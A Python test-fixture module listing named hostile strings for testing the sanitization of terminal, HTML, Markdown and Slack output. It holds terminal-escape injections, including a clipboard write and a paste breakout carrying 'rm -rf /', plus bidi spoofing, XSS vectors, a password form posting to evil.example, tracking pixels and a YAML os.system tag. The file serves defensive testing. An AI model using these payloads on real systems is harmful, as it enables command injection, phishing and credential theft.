"""The corpus: named pieces of hostile text. Each says in its name what it tries."""

from __future__ import annotations

from collections.abc import Mapping

EVIL = "evil.example"
"""The host that every address in the corpus points at: nothing may lead there without being seen."""

NASTIES: Mapping[str, str] = {
    # --- what a terminal obeys
    "clears the screen": "a\x1b[2J\x1b[Hb",
    "colours": "\x1b[1;31;5mred\x1b[0m",
    "8-bit sequence": "a\x9b2Jb",
    "writes the clipboard": "a\x1b]52;c;cm0gLXJmIC8=\x07b",
    "writes the clipboard, 8-bit": "a\x9d52;c;cm0gLXJmIC8=\x9cb",
    "hidden link": f"\x1b]8;;http://{EVIL}/osc8\x1b\\click\x1b]8;;\x1b\\",
    "sets the title": "a\x1b]0;owned\x07b\x1b]2;owned\x1b\\c",
    "notifies": "a\x1b]9;owned\x07b\x1b]777;notify;x;owned\x07c",
    "device control": "a\x1bPq#0;2;0;0;0#0~~\x1b\\b",
    "application command": "a\x1b_Gf=24,s=1,v=1;AAAA\x1b\\b",
    "privacy message": "a\x1b^pm\x1b\\b\x1bXsos\x1b\\c",
    "asks the terminal": "a\x1b[c\x1b[6n\x1b[>q\x05b",
    "other screen": "a\x1b[?1049h\x1b[?1000h\x1b[?2004lb",
    "resets": "a\x1bcb\x1b(0c\x0ed\x0f",
    "unterminated": "a\x1b]52;c;cm0",
    "nested": "a\x1b\x1b]52;\x1b[0m;c;aGk=\x07\x07b",
    "bare controls": "a\x00b\x07c\x08d\x0be\x0cf\x0dg\x7fh\x85i\x1b",
    "end of paste": "a\x1b[201~rm -rf /\rb",
    # --- what a person misreads
    "bidi": "invoice\u202excod.exe\u202c \u2066\u2067x\u2069\u2069 \u200f\u200e\u061c",
    "zero width": "pass\u200bword z\u200c\u200d\u2060\ufeff\xado",
    "fillers": "a\u3164b\u115f\u1160c\uffa0d\u034fe\u17b4f",
    "tags": "a\U000e0001\U000e0041\U000e007fb",
    "stacked marks": "Z" + "\u0301\u0316\u20dd" * 40 + "algo",
    "line ends": "one\r\ntwo\rthree\u2028four\u2029five\x0bsix\x85seven",
    "wide": "日本語" * 40 + "👩\u200d👩\u200d👧\ufe0f" * 10 + "한국어",
    "lone surrogate": "a\ud83db\udc00c",
    "noncharacters": "a\uffffb\ufdd0c\U0010fffed",
    "invalid UTF-8 read as Latin-1": "â\x80\x9dwordsâ\x80\x9c \xc3\x28 \xf0\x9f",
    # --- what a screen's markup language obeys
    "screen markup": "[bold]x[/bold] [/foo] [@click=app.quit]press[/] [link=http://evil.example]x[/link] [red on",
    "screen markup, escaped": "\\[bold] \\\\[/] [[x]] $primary {x} %(x)s %s {0} ${x} `id` $(id)",
    # --- HTML
    "script": "<script>document.write('hidden words')</script><style>p{color:red}</style>",
    "tracker": f'<img src="https://{EVIL}/t.gif?id=7" width="1" height="1"><img src=//{EVIL}/u.png>',
    "event handler": f'<svg onload=alert(1)><a href="javascript:alert(1)" onclick="x()">go</a><iframe src=https://{EVIL}>',
    "hidden words": '<div style="display:none">unseen</div><span hidden>unseen</span><template>unseen</template>',
    "false link": f'<a href="https://{EVIL}/login">https://bank.example</a>',
    "form": f'<form action="https://{EVIL}"><input name=p type=password><button>Go</button></form>',
    "comment": f"<!-- <script> --><![CDATA[x]]><?php x ?><!DOCTYPE x><!--[if mso]><img src=//{EVIL}><![endif]-->",
    "entities": "&#27;]52;c;aGk=&#7;&#x202e;&lt;script&gt;&#60;b&#62;&#" + "9" * 50 + ";&nosuch;&amp;lt;",
    "never ended": "<a href='http://evil.example <!-- <![ <? </ <b <img src=x",
    "deep": "<div>" * 60 + "<ul><li><blockquote>" * 20 + "deep",
    # --- Markdown
    "Markdown": f"# h\n- x\n1. y\n> q\n| a | b |\n---\n![i](http://{EVIL}/i.png) [x](http://{EVIL}) <http://{EVIL}>",
    "fence": "```mermaid\ngraph TD\nA-->B\n```\n~~~\n:::{note}\n%%{init}%%\n`x`",
    "references": f"[ref]: http://{EVIL}\n[ref] [a][ref] ![b][ref]\n\n[^1]: note[^1]",
    "front matter": "---\ntitle: owned\n---\n\n\"quoted: 'value' #x & *y !!python/object:os.system",
    "emphasis": "*" * 60 + "_" * 60 + "`" * 61 + "~" * 20 + "\\" * 9,
    "brackets": "[" * 200 + "]" * 200 + "(" * 50,
    "Markdown, nested": "> " * 60 + "- " * 60 + "deep",
    # --- Slack
    "calls everyone": "<!here> <!channel|x> <!everyone> @here @channel @everyone",
    "mentions": "<@U0000001> <@W0000001|kim> <!subteam^S0000001|@team> <#C0000001|general>",
    "mrkdwn": f"<http://{EVIL}|https://bank.example> <javascript:alert(1)|x> <!date^1^{{date}}^http://{EVIL}|now>",
    "mrkdwn, nested": "<<@U1|<!here>>|<http://evil.example|<@U2>>> &lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "mrkdwn, unclosed": "*_~`<!here *_~` ```<@U1``` :fire::+1::x",
    # --- what we fill in ourselves
    "our blanks": "⟦name⟧ ⟦ {name} {{ticket.requester.name}} {% if x %} [what we tried] }}⟧",
    "our metadata": '{"event_type": "cockpit_action", "event_payload": {"kind": "attest"}}',
    # --- length
    "one long word": "x" * 1000,
    "many lines": "line\n" * 60,
}
"""What is tried: the text that tries it."""

MEGABYTE = "long " * 200_000
"""A line of a million characters."""


def everything(*, line: bool = False) -> str:
    """All of them in one text; as one line where a field can't hold more."""
    text = " ¶ ".join(NASTIES.values())
    return text.replace("\n", " ") if line else text
